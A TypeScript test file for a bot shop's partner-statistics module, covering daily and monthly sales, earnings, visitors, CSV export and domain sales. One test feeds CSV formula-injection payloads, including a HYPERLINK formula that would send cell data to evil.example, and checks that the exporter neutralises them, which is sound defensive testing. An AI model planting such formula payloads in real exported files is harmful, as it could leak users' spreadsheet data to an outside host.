import { toDecimal } from '@lotok/money';
import { expect, it } from 'vitest';
import { COM_KOPECKS, sellZones } from '../../../../test/domains.ts';
import { addBot, saleHelpers } from '../../../../test/partner-bots.ts';
import { provideWorld } from '../../../../test/provide-world.ts';
import { refundHelpers } from '../../../../test/refund-helpers.ts';
import type { World } from '../../../../test/shop.ts';
import { refundUnits } from '../../orders/index.ts';
import { partnerStatistics } from './partner-statistics.ts';
import { toStatisticsCsv } from './statistics-view.ts';

let world: World;
provideWorld(
  (opened) => {
    world = opened;
  },
  { prepare: sellZones },
);
const { order, orderName, partner } = saleHelpers(() => world);
const { refundRequest } = refundHelpers(() => world);

/** The price of a unit in the bots: 1 percent, or 1 rouble, more than in the shop. */
const UNIT_KOPECKS = 10_100;
const RICH = 10_000_000;

/** Sells units of a product in a bot on a day, and gives the first of them back. */
async function sell(
  botId: number,
  day: string,
  { quantity = 1, refunded = 0, buyer = null as { buyerId: number } | null } = {},
) {
  const { buyerId } = buyer ?? (await world.user(RICH));
  const { id } = await world.product();
  const { order_ids: [orderId = 0] = [] } = await order(botId, buyerId, { products: [{ id, quantity }] });
  const units = Array.from({ length: refunded }, (_, index) => index + 1);
  if (refunded > 0) await refundUnits(world, refundRequest(orderId), units);
  await world.db
    .updateTable('orders')
    .set({ completed_at: new Date(`${day}T20:30:00Z`), product_name: `Товар ${day}` })
    .where('id', '=', orderId)
    .execute();
}
const visit = (botId: number, chatId: number, day: string) =>
  world.db
    .insertInto('bot_chats')
    .values({ bot_id: botId, chat_id: chatId, created_at: new Date(`${day}T10:00:00Z`) } as never)
    .execute();

it('a partner sees sales, earnings, products, visitors and buyers by day and month, of one bot or of all', async () => {
  const { ownerId, botId: one } = await partner(1);
  const { botId: foreign } = await partner(1);
  const other = await addBot(world.db, { ownerId, percent: 1 });
  const buyer = await world.user(RICH);
  await sell(one, '2026-10-31', { quantity: 2, buyer });
  await sell(one, '2026-11-01', { buyer });
  await sell(one, '2026-11-01', { quantity: 4, refunded: 2 });
  await sell(other, '2026-11-02');
  await sell(foreign, '2026-11-02', { quantity: 9 });
  for (const [chat, day] of [
    [1, '2026-10-31'],
    [2, '2026-11-01'],
    [3, '2026-11-01'],
    [4, '2026-11-03'],
  ] as const)
    await visit(one, chat, day);
  // The same person in another bot of the partner is one visitor.
  await visit(other, 3, '2026-11-01');
  // The first visitor has bought on two days, the others have bought nothing; the other buyers have never written to the bot.
  await world.db
    .insertInto('telegram_users')
    .values([
      { telegram_id: 1, buyer_id: buyer.buyerId },
      { telegram_id: 4, buyer_id: ownerId },
    ])
    .execute();

  const all = await partnerStatistics(world.db, ownerId, { from: '2026-10-31', to: '2026-11-30' });
  expect(all.total).toEqual({
    sales: 6,
    revenueKopecks: 6 * UNIT_KOPECKS,
    earnedKopecks: 600,
    visitors: 4,
    converted: 1,
    buyers: 3,
  });
  expect(
    all.days.map(({ period, sales, earnedKopecks, visitors, buyers }) => [
      period,
      sales,
      earnedKopecks,
      visitors,
      buyers,
    ]),
  ).toEqual([
    ['2026-10-31', 2, 200, 1, 1],
    ['2026-11-01', 3, 300, 2, 2],
    ['2026-11-02', 1, 100, 0, 1],
    ['2026-11-03', 0, 0, 1, 0],
  ]);
  expect(all.months.map(({ period, sales, visitors, buyers }) => [period, sales, visitors, buyers])).toEqual([
    ['2026-10', 2, 1, 1],
    ['2026-11', 4, 3, 3],
  ]);
  expect(all.months.map(({ converted }) => converted)).toEqual([1, 0]);
  expect(all.products.map(({ name, sales, earnedKopecks }) => [name, sales, earnedKopecks])).toEqual([
    ['Товар 2026-11-01', 3, 300],
    ['Товар 2026-10-31', 2, 200],
    ['Товар 2026-11-02', 1, 100],
  ]);
  expect(
    (await partnerStatistics(world.db, ownerId, { botId: other, from: '2026-11-01', to: '2026-11-02' })).total,
  ).toMatchObject({
    sales: 1,
    visitors: 1,
  });
  expect(await partnerStatistics(world.db, ownerId, { botId: foreign, from: '2026-11-01', to: '2026-11-02' })).toEqual({
    total: { sales: 0, revenueKopecks: 0, earnedKopecks: 0, visitors: 0, converted: 0, buyers: 0 },
    days: [],
    months: [],
    products: [],
  });
  const csv = toStatisticsCsv(all, {
    day: 'День',
    month: 'Месяц',
    product: 'Товар',
    sales: 'Продаж',
    revenue: 'Выручка',
    earned: 'Мне, ₽',
    visitors: 'Новых',
    converted: 'Купили',
    buyers: 'Покупателей',
  });
  const roubles = (units: number) => toDecimal(units * UNIT_KOPECKS);
  expect(csv.split('\r\n')).toEqual([
    '\uFEFFДень,Продаж,Выручка,"Мне, ₽",Новых,Купили,Покупателей',
    `2026-10-31,2,${roubles(2)},2.00,1,1,1`,
    `2026-11-01,3,${roubles(3)},3.00,2,0,2`,
    `2026-11-02,1,${roubles(1)},1.00,0,0,1`,
    '2026-11-03,0,0.00,0.00,1,0,0',
    '',
    'Месяц,Продаж,Выручка,"Мне, ₽",Новых,Купили,Покупателей',
    `2026-10,2,${roubles(2)},2.00,1,1,1`,
    `2026-11,4,${roubles(4)},4.00,3,0,3`,
    '',
    'Товар,Продаж,Выручка,"Мне, ₽"',
    `Товар 2026-11-01,3,${roubles(3)},3.00`,
    `Товар 2026-10-31,2,${roubles(2)},2.00`,
    `Товар 2026-11-02,1,${roubles(1)},1.00`,
    '',
  ]);
});

it('no name or heading runs as a formula in a spreadsheet, and negative amounts stay numbers', () => {
  const sold = { sales: -1, revenueKopecks: -10_100, earnedKopecks: -100 };
  const names = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+7', '-1+1', '@SUM(A1)', '\tone', '\rtwo'];
  const statistics = { days: [], months: [], products: names.map((name) => ({ ...sold, name })) };
  const heads = { product: '=product', sales: 'sales', revenue: 'revenue', earned: '@earned', day: 'day' };
  const others = { month: 'month', visitors: 'visitors', converted: 'converted', buyers: 'buyers' };
  const lines = toStatisticsCsv(statistics, { ...heads, ...others }).split('\r\n');
  expect(lines.slice(4)).toEqual([
    "'=product,sales,revenue,'@earned",
    `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",-1,-101.00,-1.00`,
    "'+7,-1,-101.00,-1.00",
    "'-1+1,-1,-101.00,-1.00",
    "'@SUM(A1),-1,-101.00,-1.00",
    "'\tone,-1,-101.00,-1.00",
    `"'\rtwo",-1,-101.00,-1.00`,
    '',
  ]);
});

it('a name counts once it is registered, as a sale of its zone that brings the difference to the price of the shop', async () => {
  const { ownerId, botId } = await partner(20, 'domains');
  await Promise.all([
    orderName(botId, { day: '2026-11-02' }),
    orderName(botId, { day: '2026-11-02', isRefused: true }),
  ]);
  const sold = { sales: 1, revenueKopecks: 1.2 * COM_KOPECKS, earnedKopecks: 0.2 * COM_KOPECKS };
  const total = { ...sold, visitors: 0, converted: 0, buyers: 1 };
  expect(await partnerStatistics(world.db, ownerId, { from: '2026-11-01', to: '2026-11-30' })).toEqual({
    total,
    days: [{ period: '2026-11-02', ...total }],
    months: [{ period: '2026-11', ...total }],
    products: [{ name: '.com', ...sold }],
  });
});

it('an order of 100 million roubles is counted', async () => {
  const { ownerId, botId } = await partner(100);
  await sell(botId, '2026-11-02');
  const setPrice = (price: number) =>
    world.db
      .updateTable('orders')
      .set({ list_price_kopecks: price, unit_price_kopecks: price, price_kopecks: price, base_kopecks: price / 2 })
      .where('bot_id', '=', botId)
      .execute();
  const large = 10_000_000_000;
  await setPrice(large);
  const { total } = await partnerStatistics(world.db, ownerId, { from: '2026-11-01', to: '2026-11-30' });
  await setPrice(20_000);
  expect(total).toMatchObject({ sales: 1, revenueKopecks: large, earnedKopecks: large / 2 });
});
